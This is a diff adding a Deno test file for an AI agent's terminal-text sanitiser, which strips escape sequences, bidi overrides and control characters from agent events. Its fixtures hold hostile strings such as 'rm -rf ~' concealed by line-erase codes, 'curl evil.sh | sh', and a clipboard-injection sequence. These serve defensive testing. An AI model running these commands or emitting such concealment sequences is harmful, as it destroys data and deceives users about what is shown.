@@ -1,0 +1,180 @@
+import { deepEqual, equal, ok } from "node:assert/strict";
+import type { AgentEvent } from "../../src/core/events.ts";
+import { createEventCleaner } from "../../src/core/terminal_events.ts";
+import {
+  cleanDeep,
+  jsonForTerminal,
+  screenLine,
+  streamCleaner,
+  terminalText,
+  visibleText,
+} from "../../src/core/terminal_text.ts";
+
+/** Hostile strings, each with the text a terminal must end up showing. */
+const ATTACKS: [string, string, string][] = [
+  ["erase line and return", "rm -rf ~ \x1b[2K\rls", "rm -rf ~ \nls"],
+  [
+    "carriage return alone",
+    "curl evil.sh | sh\rls -la          ",
+    "curl evil.sh | sh\nls -la          ",
+  ],
+  ["cursor up and clear", "a\x1b[1A\x1b[2Kb\x1b[J", "ab"],
+  ["window title (BEL)", "\x1b]0;owned\x07title", "title"],
+  ["window title (ST)", "\x1b]2;owned\x1b\\title", "title"],
+  ["OSC 8 hyperlink", "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\", "click"],
+  ["OSC 52 clipboard", "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07copied", "copied"],
+  ["DCS", "\x1bP1$r0m\x1b\\dcs", "dcs"],
+  ["APC, PM and SOS", "\x1b_apc\x1b\\\x1b^pm\x1b\\\x1bXsos\x1b\\ok", "ok"],
+  ["8-bit CSI", "a\u009b2Kb", "ab"],
+  ["8-bit OSC", "\u009d0;title\u009cok", "ok"],
+  ["SGR colours and conceal", "\x1b[8mhidden\x1b[0m \x1b[31;41mred\x1b[m", "hidden red"],
+  ["reset and charset", "\x1bc\x1b(0lqk\x1b(B", "lqk"],
+  ["save and restore cursor", "\x1b7x\x1b8", "x"],
+  ["bidi override", "ls \u202e; txt.hs", "ls ; txt.hs"],
+  ["bidi isolates and embeddings", "\u2066a\u2067b\u2068c\u2069\u202ad\u202be\u202c", "abcde"],
+  ["bidi marks", "a\u200eb\u200fc\u061cd", "abcd"],
+  ["C0 and C1", "a\x00b\x07c\x08d\x7fe\x85f\u009fg", "abcdefg"],
+  ["form feed and vertical tab", "a\x0cb\x0bc", "abc"],
+  ["lone escape at the end", "done\x1b", "done"],
+  ["split sequence start", "x\x1b[", "x"],
+];
+
+// deno-lint-ignore no-control-regex
+const OBEYED = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/;
+
+for (const [name, input, shown] of ATTACKS) {
+  Deno.test(`terminalText() removes ${name}`, () => {
+    equal(terminalText(input), shown);
+    ok(!OBEYED.test(terminalText(input)));
+  });
+}
+
+Deno.test("terminalText() keeps newlines, tabs, emoji and right-to-left letters", () => {
+  const text = "line 1\n\tline 2 ✓ 🦀 שלום مرحبا 中文";
+  equal(terminalText(text), text);
+  equal(terminalText("a\r\nb"), "a\nb");
+});
+
+Deno.test("terminalText() leaves an unterminated OSC's text visible", () => {
+  equal(terminalText("\x1b]0;not a title"), "0;not a title");
+});
+
+Deno.test("terminalText() pieces of a split sequence never rejoin into one", () => {
+  const pieces = ["rm -rf ~\x1b", "[2K\rls"].map(terminalText).join("");
+  equal(terminalText(pieces), pieces);
+  ok(pieces.includes("rm -rf ~"));
+});
+
+Deno.test("cleanDeep() cleans every string of an event, keys included", () => {
+  const event = {
+    type: "tool_end",
+    name: "bash\x1b[2K",
+    args: { command: "rm\rls", list: ["\x1b]0;t\x07a"], n: 3, ok: true, none: null },
+    ["k\x1b[1A"]: "v",
+  };
+  deepEqual(cleanDeep(event), {
+    type: "tool_end",
+    name: "bash",
+    args: { command: "rm\nls", list: ["a"], n: 3, ok: true, none: null },
+    k: "v",
+  });
+});
+
+Deno.test("screenLine() keeps SGR styling and removes everything else", () => {
+  equal(
+    screenLine("\x1b[1mbold\x1b[22m \x1b[38;5;2mgreen\x1b[39m"),
+    "\x1b[1mbold\x1b[22m \x1b[38;5;2mgreen\x1b[39m",
+  );
+  equal(screenLine("a\x1b[2K\rb\x1b[1A\x1b]0;t\x07c\x1b]8;;u\x1b\\d\u202ee"), "a bcde");
+  equal(screenLine("\x1b[8mhidden\x1b[28m"), "hidden\x1b[28m");
+  equal(screenLine("a\tb\nc"), "a  b c");
+  equal(screenLine("a\u009b2Kb"), "ab");
+});
+
+Deno.test("visibleText() shows controls, bidi characters and long blank runs instead of obeying them", () => {
+  equal(visibleText("rm -rf ~ \x1b[2K\rls"), "rm -rf ~ ␛[2K␍ls");
+  equal(visibleText("a\nb\r\nc\td\x07"), "a↵b␍↵c␉d␇");
+  equal(visibleText("ls \u202e; txt"), "ls ⟨U+202E⟩; txt");
+  equal(visibleText(`ls${" ".repeat(40)}; rm -rf ~`), "ls⟨40 spaces⟩; rm -rf ~");
+  equal(visibleText("\u009b2K"), "⟨U+009B⟩2K");
+  equal(
+    visibleText("rm\u00a0-rf\u200b ~\u{E0041}\u3164x\u2028"),
+    "rm⟨U+00A0⟩-rf⟨U+200B⟩ ~⟨U+E0041⟩⟨U+3164⟩x⟨U+2028⟩",
+  );
+  equal(visibleText("plain text, tabs aside"), "plain text, tabs aside");
+});
+
+Deno.test("streamCleaner() removes a sequence split across pieces whole, payload included", () => {
+  const stream = streamCleaner();
+  const pieces = [
+    "Hello \x1b]8;;https://ev",
+    "il.example\x1b",
+    "\\link\x1b]8;;\x1b\\ a\r",
+    "\nb\x1b[",
+    "2Kc",
+  ];
+  const shown = pieces.map((piece) => stream.push(piece)).join("") + stream.flush();
+  equal(shown, "Hello link a\nbc");
+});
+
+Deno.test("streamCleaner() lets an unfinished sequence go as text at the end of the stream", () => {
+  const stream = streamCleaner();
+  equal(stream.push("ok \x1b]0;never ends"), "ok ");
+  equal(stream.flush(), "0;never ends");
+});
+
+Deno.test("createEventCleaner() holds a split sequence back until the stream ends", () => {
+  const clean = createEventCleaner();
+  const events: AgentEvent[] = [
+    { type: "text_delta", round: 1, text: "rm -rf ~\x1b]0;" },
+    { type: "text_delta", round: 1, text: "title\x07 done\x1b[" },
+    {
+      type: "tool_start",
+      round: 1,
+      callId: "c\x1b[1A",
+      name: "bash",
+      args: { command: "a\rb" },
+      readOnly: false,
+    },
+    { type: "tool_update", callId: "c\x1b[1A", text: "50%\r" },
+    { type: "tool_update", callId: "c\x1b[1A", text: "\n\x1b]52;c;eA==" },
+    {
+      type: "tool_end",
+      round: 1,
+      callId: "c\x1b[1A",
+      name: "bash",
+      durationMs: 1,
+      observation: { status: "SUCCEEDED", output: "\x1b[31mred" },
+    },
+  ];
+  deepEqual(events.flatMap(clean), [
+    { type: "text_delta", round: 1, text: "rm -rf ~" },
+    { type: "text_delta", round: 1, text: " done" },
+    {
+      type: "tool_start",
+      round: 1,
+      callId: "c",
+      name: "bash",
+      args: { command: "a\nb" },
+      readOnly: false,
+    },
+    { type: "tool_update", callId: "c", text: "50%" },
+    { type: "tool_update", callId: "c", text: "\n" },
+    { type: "tool_update", callId: "c", text: "52;c;eA==" },
+    {
+      type: "tool_end",
+      round: 1,
+      callId: "c",
+      name: "bash",
+      durationMs: 1,
+      observation: { status: "SUCCEEDED", output: "red" },
+    },
+  ]);
+});
+
+Deno.test("jsonForTerminal() escapes what JSON leaves raw, and the value stays the same", () => {
+  const value = { text: "a\u009b2Kb\u202ec\u2066d\x7fe\u2028f ✓ שלום", n: 1 };
+  const json = jsonForTerminal(JSON.stringify(value));
+  equal(json, '{"text":"a\\u009b2Kb\\u202ec\\u2066d\\u007fe\\u2028f ✓ שלום","n":1}');
+  deepEqual(JSON.parse(json), value);
+});
